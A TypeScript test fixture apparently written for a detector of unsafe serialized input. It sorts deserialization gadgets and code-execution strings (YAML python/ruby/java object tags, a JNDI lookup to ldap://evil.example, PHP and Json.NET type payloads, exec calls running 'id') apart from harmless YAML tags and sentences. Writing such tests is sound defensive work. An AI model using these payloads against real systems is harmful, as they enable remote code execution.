import { specifyFamily } from "../../support/exact-rules.ts";

specifyFamily("code", {
  attacks: {
    "objects of YAML": [
      '!!python/object/apply:subprocess.check_output [["id"]]',
      "!!python/name:os.system",
      "!ruby/object:Gem::Requirement {}",
      '!!com.sun.rowset.JdbcRowSetImpl {dataSourceName: "ldap://evil.example/a"}',
      '!!js/function "function(){}"',
      "!!perl/hash:X {}",
    ],
    "objects of other formats": [
      "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==",
      'O:8:"stdClass":0:{}',
      '{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"rmi://x.example"}',
      '{"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework"}',
    ],
    "calls that run something": [
      "require('child_process').exec('id')",
      "T(java.lang.Runtime).getRuntime().exec('id')",
      "__import__('os').system('id')",
      'os.execute("id")',
    ],
  },
  harmless: {
    "tags and types of settings": [
      "!Ref Image",
      "!!set {a, b}",
      '{"type":"object"}',
      "!include common.yaml",
    ],
    "sentences about code": [
      "How do I use require in Node to load a file?",
      "The system call returns before the child ends.",
    ],
  },
});
